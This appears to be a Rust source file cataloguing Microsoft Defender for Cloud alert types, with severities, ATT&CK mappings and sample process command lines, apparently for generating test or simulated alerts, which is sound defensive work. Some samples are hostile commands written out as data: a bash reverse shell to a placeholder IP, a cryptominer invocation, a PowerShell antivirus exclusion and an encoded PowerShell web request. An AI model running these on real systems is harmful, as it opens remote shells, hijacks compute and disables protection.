//! Alert types of Microsoft Defender for Cloud, with the names and types of its alerts reference.

use super::{AlertType, Resource, Shape};
use crate::value::Product;
use crate::value::Severity::{self, High, Informational, Low, Medium};

const fn mdc(
    alert_type: &'static str,
    name: &'static str,
    severity: Severity,
    shape: Shape,
) -> AlertType {
    AlertType::new(Product::DefenderForCloud, alert_type, name, severity, shape)
}

const fn vm(
    alert_type: &'static str,
    name: &'static str,
    severity: Severity,
    shape: Shape,
) -> AlertType {
    mdc(alert_type, name, severity, shape).of("VirtualMachines")
}

const POWERSHELL: &str = "powershell.exe -NoProfile -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAZQB4AGEAbQBwAGwAZQAuAGMAbwBtAA==";

pub(super) static TYPES: &[AlertType] = &[
    vm(
        "VM_LoginBruteForceSuccess",
        "Successful brute force attack",
        High,
        Shape::Logon,
    )
    .about("Several failed sign-ins from one address were followed by a successful one.")
    .attack(&["InitialAccess", "CredentialAccess"], &["T1110"])
    .sub(&["T1110.001"])
    .weighs(8),
    vm("VM_LoginBruteForceValidUserFailed", "Suspicious authentication activity", Medium, Shape::Logon)
        .about("Nobody succeeded in signing in, but some of the accounts that were tried exist on the machine.")
        .attack(&["PreAttack"], &["T1110"])
        .weighs(26),
    vm("VM_SshBruteForceFailed", "Failed SSH brute force attack", Medium, Shape::Logon)
        .about("Failed SSH sign-ins from one address suggest an attempt to guess passwords.")
        .attack(&["PreAttack"], &["T1110"])
        .weighs(24),
    vm(
        "VM_SuspiciousPowerShell",
        "Suspicious PowerShell Activity Detected",
        High,
        Shape::Process {
            directory: "c:\\windows\\system32\\windowspowershell\\v1.0",
            file: "powershell.exe",
            command: POWERSHELL,
        },
    )
    .about("A PowerShell script ran with features that known attacks have in common.")
    .attack(&["Execution"], &["T1059"])
    .sub(&["T1059.001"])
    .weighs(12),
    vm(
        "VM_SuspiciousScreenSaver",
        "Suspicious Screensaver process executed",
        Medium,
        Shape::Process { directory: "c:\\users\\{user}\\appdata", file: "photos.scr", command: "c:\\users\\{user}\\appdata\\photos.scr /s" },
    )
    .about("A screensaver file ran from a directory that holds no screensavers.")
    .attack(&["DefenseEvasion", "Execution"], &["T1546"])
    .weighs(6),
    vm(
        "VM_RareServiceGroup",
        "Rare SVCHOST service group executed",
        Informational,
        Shape::Process { directory: "c:\\windows\\system32", file: "svchost.exe", command: "svchost.exe -k rareGroup" },
    )
    .about("The system process svchost ran a service group that the machine had not run before.")
    .attack(&["DefenseEvasion", "Execution"], &["T1055"])
    .weighs(26),
    vm(
        "VM_DigitalCurrencyMining",
        "Digital currency mining related behavior detected",
        High,
        Shape::Process { directory: "/tmp/.x", file: "kworker", command: "/tmp/.x/kworker -o stratum+tcp://{domain}:4444 --donate-level=0" },
    )
    .about("A process ran with the arguments of a program that mines digital currency.")
    .attack(&["Execution"], &["T1496"])
    .weighs(7),
    vm(
        "VM_AmFileExclusion",
        "Antimalware file exclusion in your virtual machine",
        Medium,
        Shape::Process { directory: "c:\\windows\\system32", file: "cmd.exe", command: "cmd.exe /c powershell Set-MpPreference -ExclusionPath c:\\temp" },
    )
    .about("A file was excluded from scans together with a script that ran through the extension of the machine.")
    .attack(&["DefenseEvasion", "Execution"], &["T1562"])
    .sub(&["T1562.001"])
    .weighs(6),
    vm("VM_AntimalwareActionTaken", "Antimalware Action Taken", Medium, Shape::File { name: "invoice_0412.exe" })
        .about("Microsoft Antimalware acted on a file that it took for malware.")
        .attack(&["Execution"], &["T1204"])
        .weighs(14),
    vm(
        "VM_ReverseShell",
        "Potential reverse shell detected",
        Medium,
        Shape::Process { directory: "/usr/bin", file: "bash", command: "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1" },
    )
    .about("Output of a shell went to a remote address, as when an attacker calls back to a machine of their own.")
    .attack(&["Exfiltration", "Exploitation"], &["T1059"])
    .weighs(5),
    mdc("AzureDNS_ThreatIntelSuspectDomain", "Communication with suspicious domain identified by threat intelligence", Medium, Shape::Dns)
        .about("A resource looked up a domain that threat intelligence lists as malicious.")
        .of("Dns")
        .attack(&["InitialAccess", "Persistence", "Execution", "CommandAndControl", "Exploitation"], &["T1071"])
        .weighs(10),
    mdc("AzureDNS_RandomizedDomain", "Communication with suspicious random domain name", Low, Shape::Dns)
        .about("A resource looked up a domain whose name looks as if a program had made it.")
        .of("Dns")
        .attack(&["CommandAndControl"], &["T1568"])
        .sub(&["T1568.002"])
        .weighs(12),
    mdc("AzureDNS_PhishingDomain", "Communication with possible phishing domain", Informational, Shape::Dns)
        .about("A resource looked up a domain that may imitate a sign-in page.")
        .of("Dns")
        .attack(&["InitialAccess", "Exfiltration"], &["T1566"])
        .weighs(10),
    mdc("AzureDNS_SinkholedDomain", "Attempted communication with suspicious sinkholed domain", Medium, Shape::Dns)
        .about("A resource looked up a domain that was taken over after it had served attackers.")
        .of("Dns")
        .attack(&["CommandAndControl"], &["T1071"])
        .weighs(8),
    mdc("AzureDNS_DataExfiltration", "Possible data exfiltration via DNS tunnel", Low, Shape::Dns)
        .about("The size and number of lookups suggest that data leaves inside domain names.")
        .of("Dns")
        .attack(&["Exfiltration"], &["T1048"])
        .weighs(6),
    mdc("SQL.DB_PotentialSqlInjection", "Potential SQL injection", High, Shape::Resource(Resource::SqlDatabase))
        .about("A statement of an application bears the marks of injected SQL.")
        .of("Databases")
        .attack(&["PreAttack"], &["T1190"])
        .weighs(9),
    mdc("SQL.DB_BruteForce", "Potential SQL Brute Force attempt", High, Shape::Resource(Resource::SqlDatabase))
        .about("Many sign-ins with different credentials failed on a database server.")
        .of("Databases")
        .attack(&["PreAttack"], &["T1110"])
        .weighs(16),
    mdc("SQL.DB_PrincipalAnomaly", "Logon from a principal user not seen in 60 days", Medium, Shape::Resource(Resource::SqlDatabase))
        .about("An account that had not been seen for 60 days signed in to a database.")
        .of("Databases")
        .attack(&["Exploitation"], &["T1078"])
        .weighs(16),
    mdc("Storage.Blob_TorAnomaly", "Access from a Tor exit node to a storage blob container", High, Shape::Resource(Resource::StorageAccount))
        .about("A container was read from an address of the Tor network.")
        .of("Storage")
        .attack(&["InitialAccess"], &["T1090"])
        .sub(&["T1090.003"])
        .weighs(5),
    mdc("Storage.Blob_DataExfiltration.AmountOfDataAnomaly", "Unusual amount of data extracted from a storage blob container", Low, Shape::Resource(Resource::StorageAccount))
        .about("More data than usual left a container.")
        .of("Storage")
        .attack(&["Exfiltration"], &["T1567"])
        .weighs(14),
    mdc("Storage.Blob_MalwareHashReputation", "Potential malware uploaded to a storage blob container", High, Shape::Resource(Resource::StorageAccount))
        .about("The hash of an uploaded blob belongs to known malware.")
        .of("Storage")
        .attack(&["LateralMovement"], &["T1570"])
        .weighs(5),
    mdc("KV_TORAccess", "Access from a TOR exit node to a key vault", High, Shape::Resource(Resource::KeyVault))
        .about("A key vault was used from an address of the Tor network.")
        .of("KeyVault")
        .attack(&["CredentialAccess"], &["T1555"])
        .weighs(3),
    mdc("KV_AppAnomaly", "Unusual application accessed a key vault", Medium, Shape::Resource(Resource::KeyVault))
        .about("An application that does not usually do so read a key vault.")
        .of("KeyVault")
        .attack(&["CredentialAccess"], &["T1555"])
        .weighs(12),
    mdc("ARM_OperationFromSuspiciousIP", "Azure Resource Manager operation from suspicious IP address", Medium, Shape::Resource(Resource::Subscription))
        .about("Somebody managed resources from an address that threat intelligence lists.")
        .of("ResourceManager")
        .attack(&["Execution"], &["T1078"])
        .sub(&["T1078.004"])
        .weighs(9),
    mdc("ARM_AnomalousOperation.CredentialAccess", "Suspicious invocation of a high-risk 'Credential Access' operation detected", Medium, Shape::Resource(Resource::Subscription))
        .about("An operation that hands out credentials does not fit what the caller usually does.")
        .of("ResourceManager")
        .attack(&["CredentialAccess"], &["T1552"])
        .weighs(7),
    mdc("ARM_MicroBurst.AzDomainInfo", "MicroBurst exploitation toolkit used to enumerate resources in your subscriptions", High, Shape::Resource(Resource::Subscription))
        .about("A toolkit for attacks listed the resources of a subscription.")
        .of("ResourceManager")
        .attack(&["Discovery"], &["T1526"])
        .weighs(2),
    mdc("AppServices_WebFingerprinting", "Web fingerprinting detected", Medium, Shape::Resource(Resource::WebApp))
        .about("A tool probed an application to find out what it is made of.")
        .of("AppServices")
        .attack(&["PreAttack"], &["T1595"])
        .weighs(12),
    mdc("AppServices_PhishingContent", "Phishing content hosted on Azure Webapps", High, Shape::Resource(Resource::WebApp))
        .about("An application serves a page that imitates a sign-in.")
        .of("AppServices")
        .attack(&["Collection"], &["T1566"])
        .weighs(3),
    mdc("AppServices_DanglingDomain", "Dangling DNS record for an App Service resource detected", High, Shape::Resource(Resource::WebApp))
        .about("A DNS record still points to a web site that was deleted; others can take its name over.")
        .of("AppServices")
        .attack(&["PreAttack"], &["T1584"])
        .sub(&["T1584.001"])
        .weighs(4),
    mdc("K8S_ExposedDashboard", "Exposed Kubernetes dashboard detected", High, Shape::Kubernetes)
        .about("The dashboard of a cluster can be reached from the internet.")
        .of("Containers")
        .attack(&["InitialAccess"], &["T1133"])
        .weighs(5),
    mdc("K8S_PrivilegedContainer", "Privileged container detected", Informational, Shape::Kubernetes)
        .about("A container runs with access to its node's resources.")
        .of("Containers")
        .attack(&["PrivilegeEscalation"], &["T1611"])
        .weighs(22),
    mdc("K8S_MaliciousContainerImage", "Digital currency mining container detected", High, Shape::Kubernetes)
        .about("A container runs an image that is known to mine digital currency.")
        .of("Containers")
        .attack(&["Execution"], &["T1610"])
        .weighs(4),
    mdc("K8S_NewAdmissionWebhook", "New admission webhook configuration detected", Low, Shape::Kubernetes)
        .about("A new webhook may change what clusters admit.")
        .of("Containers")
        .attack(&["CredentialAccess", "Persistence"], &["T1546"])
        .weighs(10),
    // An incident of Defender for Cloud's own correlation is an alert like others here: `IsIncident` is always false (R10.8).
    vm("SharedProcessIncident", "Security incident with shared process detected", High, Shape::Logon)
        .about("Several alerts on one machine belong to the same chain of an attack.")
        .attack(&["Execution"], &["T1059"])
        .weighs(3),
];
